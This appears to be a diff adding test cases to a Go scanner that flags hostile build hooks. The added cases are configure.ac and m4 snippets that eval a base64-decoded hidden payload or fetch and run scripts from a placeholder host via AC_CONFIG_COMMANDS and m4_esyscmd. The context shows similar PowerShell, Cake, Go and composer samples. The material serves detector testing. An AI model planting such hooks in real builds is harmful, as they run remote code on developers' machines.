@@ -63,6 +63,11 @@ var registry = []Rule{
 			{"x.ps1", "[ScriptBlock]::Create([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($p))).Invoke()", 0, false},
 			// configure runs the shell inside configure.ac's macros.
 			{"configure.ac", "AC_INIT([x], [1.0])\nAC_CONFIG_COMMANDS_PRE([\n  p=`sed -n '/^#x/,$p' tests/files/x.lz | tr '\\t \\-_' ' \\t_\\-' | xz -dc`\n  eval \"$p\"\n])", 4, false},
+			// A macro's shell argument on the macro's own line, and the shell
+			// around it, are one script: the value decoded on one line runs
+			// in AC_CONFIG_COMMANDS on the next.
+			{"configure.ac", "AC_INIT([x], [1.0])\np=`sed -n '/^#p/{s/^#p//;p}' tests/files/h.bin | base64 -d`\nAC_CONFIG_COMMANDS([probe], [eval \"$p\"], [p='$p'])\nAC_OUTPUT", 3, false},
+			{"configure.ac", "AC_INIT([x], m4_esyscmd([build-aux/git-version-gen .tarball-version]))\nAC_ARG_ENABLE([debug], AS_HELP_STRING([--enable-debug], [debug build]), [enable_debug=$enableval], [enable_debug=no])\nAS_IF([test \"x$enable_debug\" = xyes], [CFLAGS=\"$CFLAGS -g\"])\nAC_CONFIG_COMMANDS([libtool-patch], [sed -i -e 's/^hardcode_libdir_flag_spec=.*/hardcode_libdir_flag_spec=\"\"/' libtool])\nAC_OUTPUT", 0, true},
 			{"x.ps1", "pwsh -ExecutionPolicy Bypass -File build.ps1", 0, true},
 			// A Cake build script decoding a command and starting it.
 			{"build.cake", "var s = Encoding.UTF8.GetString(Convert.FromBase64String(P));\nStartProcess(\"bash\", new ProcessSettings { Arguments = \"-c \\\"\" + s + \"\\\"\" });", 0, false},
@@ -123,6 +128,9 @@ var registry = []Rule{
 		// --checksum fixes what the download is: the line decides what runs.
 		{"Dockerfile", "FROM alpine\nADD --checksum=sha256:24454f830cdb571e2c4ad15481119c43b3cafd48dd869a9b2945d1036d1dc68d https://x.invalid/setup.sh /setup.sh\nRUN sh /setup.sh", 0, true},
 		{"x.go", "package x\n\nimport \"os/exec\"\n\nfunc init() {\n\tc := string([]byte{119, 103, 101, 116})\n\texec.Command(\"/bin/sh\", \"-c\", c).Start()\n}", 7, false},
+		// configure runs AC_CONFIG_COMMANDS' commands; autoreconf runs m4_esyscmd.
+		{"configure.ac", "AC_INIT([x], [1.0])\nAC_CONFIG_COMMANDS([a], [curl -fsSLo /tmp/a.sh https://x.invalid/a.sh])\nAC_CONFIG_COMMANDS_POST([sh /tmp/a.sh])\nAC_OUTPUT", 3, false},
+		{"m4/x.m4", "AC_DEFUN([X_VERSION], [m4_define([x_v], m4_esyscmd([curl -fsSL https://x.invalid/v.sh | sh]))])", 1, false},
 		// Composer runs a script named for an event at every install; PHP's
 		// copy() of a URL is a download, and a one-liner's include runs it.
 		{"composer.json", "{\n  \"scripts\": {\n    \"post-autoload-dump\": \"php -r \\\"copy('https://x.invalid/o.php', sys_get_temp_dir().'/o.php'); include sys_get_temp_dir().'/o.php';\\\"\"\n  }\n}", 3, false},
